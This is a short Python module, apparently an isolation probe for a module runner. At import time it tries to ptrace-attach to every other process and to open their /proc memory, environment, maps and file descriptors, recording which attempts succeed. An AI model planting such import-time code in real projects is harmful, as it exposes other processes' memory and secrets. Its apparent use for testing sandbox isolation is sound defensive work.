"""Opens memory, descriptors and folders of the runner and of other modules, with the rights that
a module's process has while it is imported."""

import contextlib
import ctypes
import os

STATUS, RESULT, WHEN, NEEDS = "ok", [], "import", "own uid"
SEIZE = 0x4206
GOT, LIBC = [], ctypes.CDLL(None)

for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
    if pid == os.getpid():
        continue
    if LIBC.ptrace(ctypes.c_long(SEIZE), ctypes.c_long(pid), None, None) == 0:
        GOT.append(f"traced {pid}")
    for name in ("mem", "environ", "maps", "fd/0", "fd/1", "fd/3", "cwd/kept"):
        with contextlib.suppress(OSError), open(f"/proc/{pid}/{name}", "rb"):
            GOT.append(f"opened {name} of {pid}")


def attack():
    return GOT
